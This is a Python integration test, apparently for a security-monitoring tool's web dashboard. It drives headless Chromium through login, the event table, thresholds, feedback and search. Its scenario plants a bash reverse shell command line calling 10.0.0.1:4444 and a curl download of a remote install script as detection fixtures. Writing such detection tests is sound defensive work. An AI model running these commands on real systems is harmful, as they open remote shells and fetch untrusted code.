"""The dashboard (ruleless/dashboard/) in real headless Chromium, against the real system.

Real broker, worker, sink and `ruleless api` processes; events streamed through them;
Debian's chromium driven by Playwright (ENVIRONMENT.md, "Browsers": `playwright install`
does not work here, so the system's browser is launched by path). The test proves that
an analyst, with only a token and a browser:

- sees the streamed events in the live table and the alerts in the feed;
- finds a planted reverse shell among the top 3 hits of a search for "reverse shell";
- marks an alert "expected" in the event drawer, after which the next identical event
  scores lower (the feedback goes the same way as `ruleless feedback`);

and saves a screenshot of each step (the directory is printed; RULELESS_TEST_ARTIFACTS
moves it). Without /usr/bin/chromium the test skips with the reason, unless
RULELESS_REQUIRE_BROWSER=1 (CI sets it): then it fails.
"""

from __future__ import annotations

import os
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ruleless.broker import free_port
from ruleless.settings import Settings
from tests.apistack import api_process, pipeline, publish, token, wait_stored
from tests.factories import event as make_event
from tests.factories import workload_stream

pytestmark = pytest.mark.integration

CHROMIUM = Path("/usr/bin/chromium")
REPO = Path(__file__).resolve().parents[2]
WAIT_MS = 60_000


# -- the browser ------------------------------------------------------------------------


def browser_unavailable() -> str | None:
    """Why no headless Chromium can be driven here, or None."""
    if not CHROMIUM.exists():
        return f"{CHROMIUM} is absent (apt-get install chromium)"
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError as exc:
        return f"playwright is not installed: {exc}"
    return None


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    why = browser_unavailable()
    if why is not None:
        if os.environ.get("RULELESS_REQUIRE_BROWSER") == "1":
            pytest.fail(f"RULELESS_REQUIRE_BROWSER=1 but {why}")
        pytest.skip(why)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"], headless=True)
        try:
            yield chromium
        finally:
            chromium.close()


@pytest.fixture
def artifacts(request: pytest.FixtureRequest) -> Path:
    """Where this test's screenshots go (kept after the run; printed)."""
    root = Path(os.environ.get("RULELESS_TEST_ARTIFACTS") or REPO / "test-artifacts")
    out = root / "dashboard" / request.node.name
    out.mkdir(parents=True, exist_ok=True)
    for old in out.glob("*.png"):
        old.unlink()
    print(f"\nscreenshots: {out}")
    return out


# -- the system -------------------------------------------------------------------------


# Times relative to now, so the dashboard shows a live system (the engine keeps event time).
def scenario(now: float) -> dict[str, Any]:
    base = now - 420
    routine = sorted(
        [*workload_stream("acme", "web", "web", 600, start=base), *workload_stream("acme", "db", "db", 300, start=base)],
        key=lambda e: e.ts,
    )
    shell = make_event(ts=base + 330, pid=31337, host="web-2", user="www-data", uid=33, process_name="bash",
                       exe="/usr/bin/bash", parent_process="nginx", ancestors=["nginx", "systemd"],
                       cmdline="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    # Other odd things of the same afternoon, so the search has something to rank against.
    others = [
        make_event(ts=base + 335, pid=31400, host="web-0", user="root", uid=0, process_name="curl", parent_process="bash",
                   cmdline="curl -fsSL http://203.0.113.9/install.sh -o /tmp/i.sh"),
        make_event(ts=base + 340, pid=31401, host="web-0", user="root", uid=0, process_name="tar", parent_process="bash",
                   cmdline="tar czf /tmp/www-backup.tgz /var/www/html"),
        make_event(ts=base + 345, pid=31402, host="web-1", user="root", uid=0, process_name="systemctl", parent_process="bash",
                   cmdline="systemctl restart nginx"),
    ]
    odd = dict(process_name="certbot", exe="/usr/bin/certbot", parent_process="cron", user="root", uid=0,
               host="web-1", cmdline="certbot renew --quiet")
    first = make_event(ts=base + 360, pid=501, **odd)
    again = make_event(ts=base + 400, pid=502, **odd)  # same host, 40 s later: the same episode
    return {"routine": routine, "shell": shell, "others": others, "first": first, "again": again}


@pytest.fixture
def system(topics: Settings, tmp_path: Path) -> Iterator[dict[str, Any]]:
    """Sink, worker and `ruleless api` processes on the test's topics (tests/apistack.py);
    the API's URL and a token of org acme."""
    api = topics.api.model_copy(update={"port": free_port(), "metrics_port": free_port()})
    sink = topics.sink.model_copy(update={"behaviours_interval_s": 1.0})  # search sees new behaviours soon
    settings = topics.model_copy(update={"api": api, "sink": sink})
    with pipeline(settings, tmp_path), api_process(settings, tmp_path) as url:
        yield {"settings": settings, "url": url, "token": token(settings, "acme"), "logs": tmp_path}


# -- the page ---------------------------------------------------------------------------


def sign_in(page: Any, secret: str) -> None:
    """Through the token prompt (the token then lives in the tab's sessionStorage)."""
    page.wait_for_selector("#login-form", state="visible")
    page.fill("#token-input", secret)
    page.click("#login-form button[type=submit]")
    page.wait_for_selector("#app", state="visible")


def row_score(page: Any, event_id: str | None) -> float:
    row = page.locator(f'#events tr[data-event-id="{event_id}"]')
    row.wait_for(timeout=WAIT_MS)
    return float(row.locator(".score").inner_text())


def search_hits(page: Any, text: str, want: str | None, timeout: float = 60.0) -> list[str]:
    """Event ids of the hits for ``text``, best first; searched again (the sink indexes
    behaviours in the background) until ``want`` is among them or the time is up."""
    deadline = time.monotonic() + timeout
    ids: list[str] = []
    while True:
        page.fill("#search-input", text)
        page.press("#search-input", "Enter")
        page.wait_for_selector("#search-results > li:not(:has(.spinner))", timeout=WAIT_MS)
        ids = [h.get_attribute("data-event-id") or "" for h in page.locator("#search-results .hit").all()]
        if want in ids or time.monotonic() > deadline:
            return ids
        time.sleep(2)


def test_dashboard_shows_events_finds_the_reverse_shell_and_takes_feedback(
    browser: Any, artifacts: Path, system: dict[str, Any]
) -> None:
    from playwright.sync_api import expect

    settings, url = system["settings"], system["url"]
    story = scenario(time.time())
    shell, first, again = story["shell"], story["first"], story["again"]
    publish(settings, [*story["routine"], shell, *story["others"], first])
    flagged = {r["event_id"]: r for r in wait_stored(settings, [first.event_id or "", shell.event_id or ""])}[first.event_id]

    page = browser.new_page(viewport={"width": 1440, "height": 900})
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("console", lambda msg: "Content Security Policy" in msg.text and errors.append(msg.text))
    foreign: list[str] = []  # nothing from a CDN: every request goes to the API's own origin
    page.on("request", lambda req: req.url.startswith((url + "/", "data:")) or foreign.append(req.url))

    # 1. The token prompt, then the live table with the streamed events.
    page.goto(url + "/")
    page.wait_for_selector("#login-form", state="visible")
    page.fill("#token-input", "rl_forged_token")
    page.click("#login-form button[type=submit]")
    expect(page.locator("#login-error")).to_contain_text("refused")
    page.screenshot(path=str(artifacts / "01-token-prompt.png"))
    sign_in(page, system["token"])
    page.locator(f'#events tr[data-event-id="{shell.event_id}"]').wait_for(timeout=WAIT_MS)
    assert page.locator("#events tr[data-event-id]").count() >= 50
    assert page.locator(f'#events tr[data-event-id="{shell.event_id}"] .badge').inner_text().lower() in ("alert", "warn")
    page.locator(f'#alerts [data-event-id="{first.event_id}"]').wait_for(timeout=WAIT_MS)
    page.screenshot(path=str(artifacts / "02-events-and-alerts.png"))

    # 2. One workload: learning state, charts, and its thresholds overridden then reset.
    page.click('.wl-item[data-workload="web"]')
    page.wait_for_selector("#chart-volume svg", timeout=WAIT_MS)
    page.wait_for_selector("#chart-scores svg", timeout=WAIT_MS)
    assert page.inner_text('.wl-item[data-workload="web"] .chip') in ("learning", "learned")
    expect(page.locator("#th-alert")).not_to_have_value("", timeout=WAIT_MS)
    page.fill("#th-warn", "0.65")
    page.fill("#th-alert", "0.85")
    page.click("#thresholds button[type=submit]")
    expect(page.locator("#th-status")).to_contain_text("saved", timeout=WAIT_MS)
    page.screenshot(path=str(artifacts / "03-workload.png"), full_page=True)
    web = "/api/workloads/acme/web/thresholds"
    assert page.evaluate(f"fetch('{web}', {{headers: {{Authorization: 'Bearer ' + sessionStorage.getItem('ruleless.token')}}}})"
                         ".then(r => r.json()).then(t => [t.source, t.effective.warn, t.effective.alert])") == ["override", 0.65, 0.85]
    page.click("#th-reset")
    expect(page.locator("#th-status")).to_have_text(re.compile(r"^\((learned|config|default)\)$"), timeout=WAIT_MS)

    # 3. The drawer of the flagged certbot run, marked expected with one click.
    page.click(f'#alerts [data-event-id="{first.event_id}"]')
    page.wait_for_selector("#drawer.open .verdict", timeout=WAIT_MS)
    page.wait_for_selector("#d-body .reasons, #d-body .d-section p", timeout=WAIT_MS)
    page.screenshot(path=str(artifacts / "04-drawer.png"))
    page.click('#drawer button[data-label="expected"]')
    expect(page.locator("#feedback-status")).to_contain_text("Marked expected", timeout=WAIT_MS)
    page.screenshot(path=str(artifacts / "05-marked-expected.png"))
    page.click("#d-close")

    # 4. The next identical run scores lower, in the table the analyst is looking at.
    time.sleep(3)  # verdicts and raw events are separate topics (see tests/test_feedback.py)
    publish(settings, [again])
    page.fill('#filters input[name="program"]', "certbot")
    before = row_score(page, first.event_id)
    after = row_score(page, again.event_id)
    page.screenshot(path=str(artifacts / "06-next-run-scores-lower.png"))
    assert before == pytest.approx(float(flagged["score"]), abs=0.006)
    assert after < before / 2, f"after 'expected' the next run scored {after} (was {before})"
    assert "feedback benign" in (system["logs"] / "worker.log").read_text()
    page.fill('#filters input[name="program"]', "")

    # 5. Search finds intent: the reverse shell shares no word with "reverse shell".
    ids = search_hits(page, "reverse shell", shell.event_id)
    page.screenshot(path=str(artifacts / "07-search-reverse-shell.png"))
    assert shell.event_id in ids[:3], f"planted reverse shell {shell.event_id} not in the top 3 of {ids}"

    assert not errors, f"errors in the page: {errors}"
    assert not foreign, f"requests beyond {url}: {foreign}"
